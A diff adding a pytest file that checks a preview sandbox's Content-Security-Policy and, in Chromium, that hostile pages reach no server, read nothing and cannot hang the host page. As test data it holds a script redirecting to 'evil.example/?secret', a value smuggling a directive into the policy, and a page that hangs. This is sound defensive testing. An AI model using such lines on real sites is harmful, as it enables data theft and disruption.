@@ -1,0 +1,243 @@
+"""The shell of previews: its policy, what it shows in Chromium, and that a page in it reaches nothing."""
+
+from __future__ import annotations
+
+import asyncio
+import json
+import re
+from collections.abc import AsyncIterator
+from contextlib import asynccontextmanager
+from dataclasses import dataclass, field
+from typing import Any
+
+import pytest
+
+from agenticx.errors import SettingsError
+from agenticx.settings import load_settings
+from tests.support.server.chromium import CHROMIUM, Tab, browser_tab
+from tests.support.server.hostile_pages import NAVIGATING, RESIDENT
+from tests.support.server.page import enter
+from tests.support.server.running_studio import RunningStudio, StudioMaker
+from tests.support.timeouts import PATIENCE
+
+pytestmark = pytest.mark.anyio
+
+in_chromium = pytest.mark.skipif(CHROMIUM is None, reason="no Chromium is installed")
+
+POLICY = (
+    "sandbox allow-scripts; default-src 'none'; script-src 'unsafe-inline'; style-src 'unsafe-inline'; "
+    "img-src data: blob:; font-src data:; media-src data: blob:; connect-src 'none'; frame-src 'none'; "
+    "form-action 'none'; base-uri 'none'; frame-ancestors 'self'"
+)
+WITH_SHELL = """
+    window.messages = [];
+    addEventListener('message', ({data}) => messages.push(data));
+    const shell = Object.assign(document.createElement('iframe'), {id: 'shell', src: 'preview'});
+    shell.style = 'position: fixed; inset: 0; width: 100%; height: 100%'; // browsers slow down what is out of sight
+    document.body.append(shell);
+"""
+
+
+@pytest.fixture
+async def tab() -> AsyncIterator[Tab]:
+    async with browser_tab() as tab:
+        yield tab
+
+
+async def test_the_shell_is_public_and_has_a_policy_of_its_own(make_studio: StudioMaker) -> None:
+    async with make_studio() as studio:
+        answer = await studio.client.get("/preview", headers={"Authorization": ""})
+        assert answer.headers.get_list("content-security-policy") == [POLICY]
+        assert answer.headers["x-content-type-options"] == "nosniff"
+        assert 'data-hosts=""' in answer.text
+        (policy,) = (await studio.client.get("/")).headers.get_list("content-security-policy")
+        assert "frame-src 'self'" in policy
+        assert "img-src 'self' blob:" in policy
+
+
+async def test_hosts_of_the_settings_may_give_scripts_styles_images_and_fonts_only(make_studio: StudioMaker) -> None:
+    async with make_studio(preview_hosts="cdn.example.com https://Fonts.example:8443") as studio:
+        policy = (await studio.client.get("/preview")).headers["content-security-policy"]
+    hosts = " https://cdn.example.com https://fonts.example:8443"
+    directives = dict(part.split(" ", 1) for part in policy.split("; "))
+    expected = dict(part.split(" ", 1) for part in POLICY.split("; "))
+    assert directives == expected | {
+        name: expected[name] + hosts for name in ("script-src", "style-src", "img-src", "font-src")
+    }
+
+
+@pytest.mark.parametrize(
+    "host", ["http://cdn.example", "*", "*.example.com", "cdn.example/path", "a; script-src *", "'self'"]
+)
+def test_other_preview_hosts_are_refused(host: str) -> None:
+    with pytest.raises(
+        SettingsError, match=r"AGX_PREVIEW_HOSTS is .*; it must be https hosts, such as cdn.example.com"
+    ):
+        load_settings(environ={"AGX_PREVIEW_HOSTS": host})
+
+
+# --- in Chromium ------------------------------------------------------------------------------------------------------
+
+
+async def open_shell(tab: Tab, studio: RunningStudio) -> None:
+    await enter(tab, studio)
+    await tab.evaluate(f"(() => {{ {WITH_SHELL} }})()")
+    await tab.wait_for("messages.some(({type}) => type === 'ready')")
+
+
+async def post(tab: Tab, html: str, *, scripts: bool = True, id_: int = 1) -> None:
+    message = {"type": "show", "id": id_, "html": html, "scripts": scripts, "isGrowing": False}
+    await tab.evaluate(f"document.getElementById('shell').contentWindow.postMessage({json.dumps(message)}, '*')")
+
+
+async def show(tab: Tab, html: str, *, scripts: bool = True, id_: int = 1) -> list[Any]:
+    """Show a page and return what the shell has said until it was shown, and what was said before."""
+    await post(tab, html, scripts=scripts, id_=id_)
+    return await tab.wait_for(f"messages.some(({{type, id}}) => type === 'shown' && id === {id_}) && messages")
+
+
+@dataclass
+class Listener:
+    """A server for what pages send: `requests` are the paths of HTTP requests; `/` answers with `page`."""
+
+    port: int
+    requests: list[str] = field(default_factory=list[str])
+    page: str = ""
+
+    @property
+    def url(self) -> str:
+        return f"http://localhost:{self.port}"
+
+
+@asynccontextmanager
+async def listening() -> AsyncIterator[Listener]:
+    writers: list[asyncio.StreamWriter] = []
+
+    async def receive(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
+        writers.append(writer)
+        line = await reader.readline()
+        if re.fullmatch(rb"[A-Z]+ \S+ HTTP/\d\.\d\r\n", line):
+            found.requests.append(line.decode().split()[1])
+            body = found.page.encode() if found.requests[-1] == "/" else b""
+            head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(body)}\r\nContent-Type: text/html\r\nConnection: close"
+            writer.write(head.encode() + b"\r\n\r\n" + body)
+        writer.close()
+
+    server = await asyncio.start_server(receive, "127.0.0.1", 0)
+    found = Listener(server.sockets[0].getsockname()[1])
+    try:
+        yield found
+    finally:
+        server.close()
+        for writer in writers:  # a blocked frame opens a connection without a request
+            writer.close()
+        await asyncio.gather(*(writer.wait_closed() for writer in writers), return_exceptions=True)
+
+
+def hostile(html: str, listener: Listener) -> str:
+    won = "const won = (what) => top.postMessage({won: String(what)}, '*');"
+    start = f"<!doctype html><title>x</title><script>{won}</script>"
+    end = (
+        "<script>addEventListener('load', () => requestIdleCallback(() => top.postMessage({over: true}, '*')))</script>"
+    )
+    return start + end + html.replace("URL", listener.url).replace("HOST", f"127.0.0.1:{listener.port}")
+
+
+@in_chromium
+@pytest.mark.promise("I3")
+async def test_hostile_pages_reach_no_server_and_read_nothing_of_the_page_around_them(
+    make_studio: StudioMaker, tab: Tab
+) -> None:
+    async with make_studio() as studio, listening() as listener:
+        await open_shell(tab, studio)
+        await show(tab, hostile("\n".join(RESIDENT.values()), listener))
+        await tab.wait_for("messages.some(({over}) => over)")
+        for number, page in enumerate(NAVIGATING.values(), start=2):
+            messages = await show(tab, hostile(page, listener), id_=number)
+        blocked = [(one["kind"], one["url"]) for one in messages if one.get("type") == "blocked"]
+        assert {"image", "script", "style", "font", "media", "request", "frame", "object"} <= {
+            kind for kind, _ in blocked
+        }
+        assert ("image", f"{listener.url}/image") in blocked
+        assert [one["won"] for one in messages if "won" in one] == []
+        assert await tab.evaluate("location.pathname") == "/"
+        assert await tab.evaluate("document.cookie + localStorage.length") == "0"
+        assert listener.requests == []
+    assert len(RESIDENT) + len(NAVIGATING) >= 40
+
+
+@in_chromium
+@pytest.mark.cases(quick=0)
+async def test_the_same_pages_reach_the_listener_where_no_policy_holds_them(tab: Tab) -> None:
+    async with listening() as listener:
+        leaving = {"form", "top navigation", "parent navigation"}  # as this page is the one at the top
+        pages = [page for name, page in RESIDENT.items() if name not in leaving]
+        listener.page = hostile("\n".join(pages), listener)
+        await tab.open(f"{listener.url}/")
+        sent = {"/keep", "/xhr", "/socket", "/events", "/beacon", "/image", "/srcset1", "/background", "/import.css"}
+        sent |= {"/sheet.css", "/font", "/video", "/svg-image", "/preload", "/script.js", "/import.js", "/worker.js"}
+        sent |= {"/shared.js", "/service.js", "/frame", "/nested", "/empty", "/object"}
+        async with asyncio.timeout(PATIENCE):
+            while not sent <= set(listener.requests):
+                await asyncio.sleep(0)
+
+
+@in_chromium
+@pytest.mark.promise("I3")
+async def test_a_page_whose_scripts_do_not_run_loads_nothing_and_what_it_wants_is_listed(
+    make_studio: StudioMaker, tab: Tab
+) -> None:
+    async with make_studio(preview_hosts="cdn.example.com") as studio, listening() as listener:
+        await open_shell(tab, studio)
+        page = hostile("\n".join((*RESIDENT.values(), *NAVIGATING.values())), listener)
+        page += "<img src=images/a.png><script src=https://cdn.example.com/a.js></script><img src=https://e.example/a>"
+        messages = await show(tab, page, scripts=False)
+        assert {one.get("type") for one in messages} == {"ready", "shown", "blocked"}  # none is of a script
+        blocked = {(one["kind"], one["url"]): one["canBeAllowed"] for one in messages if one.get("type") == "blocked"}
+        url = listener.url
+        assert blocked["image", f"{url}/image"] is False  # only https hosts can be
+        assert blocked["image", "https://e.example/a"] is True
+        assert blocked["image", "images/a.png"] is False
+        assert ("script", "https://cdn.example.com/a.js") not in blocked
+        wanted = {"style": "/sheet.css", "font": "/font", "media": "/video", "frame": "/frame", "object": "/object"}
+        assert {(kind, url + path) for kind, path in wanted.items()} <= blocked.keys()
+        assert listener.requests == []
+
+
+@in_chromium
+async def test_a_page_is_shown_in_standards_mode_and_follows_links_to_its_own_places(
+    make_studio: StudioMaker, tab: Tab
+) -> None:
+    tell = "top.postMessage({told: [document.compatMode, document.scripts.length, scrollY > 0]}, '*')"
+    page = "<!DOCTYPE html><html lang=de><body><a id=a href='#end'>x</a><div style='height:5000px'></div><p id=end>"
+    async with make_studio() as studio:
+        await open_shell(tab, studio)
+        await show(tab, f"{page}<script>addEventListener('hashchange', () => {tell}); a.click()</script>")
+        told = await tab.wait_for("messages.find(({told}) => told)?.told")
+        assert told == ["CSS1Compat", 1, True]
+
+
+@in_chromium
+async def test_a_page_that_goes_elsewhere_is_drawn_again_without_scripts(make_studio: StudioMaker, tab: Tab) -> None:
+    page = "<script>top.postMessage({ran: true}, '*'); location = 'https://evil.example/?secret'</script>"
+    async with make_studio() as studio:
+        await open_shell(tab, studio)
+        await show(tab, page)
+        left = await tab.wait_for("messages.find(({type}) => type === 'left')")
+        assert left == {"type": "left", "id": 1, "url": "https://evil.example"}
+        await show(tab, "<p>next", scripts=False, id_=2)
+        assert await tab.evaluate("messages.filter(({ran}) => ran).length") == 1
+
+
+@in_chromium
+async def test_a_page_that_hangs_leaves_the_page_around_it_alive_and_can_be_removed(
+    make_studio: StudioMaker, tab: Tab
+) -> None:
+    page = "<script>top.postMessage({hangs: true}, '*'); setTimeout(() => { for (;;); }, 50)</script>"
+    async with make_studio() as studio:
+        await open_shell(tab, studio)
+        await post(tab, page)
+        await tab.wait_for("messages.some(({hangs}) => hangs)")
+        await tab.evaluate(f"document.getElementById('shell').remove(), (() => {{ {WITH_SHELL} }})()")
+        await tab.wait_for("messages.some(({type}) => type === 'ready')")
+        await show(tab, "<p>next", scripts=False)
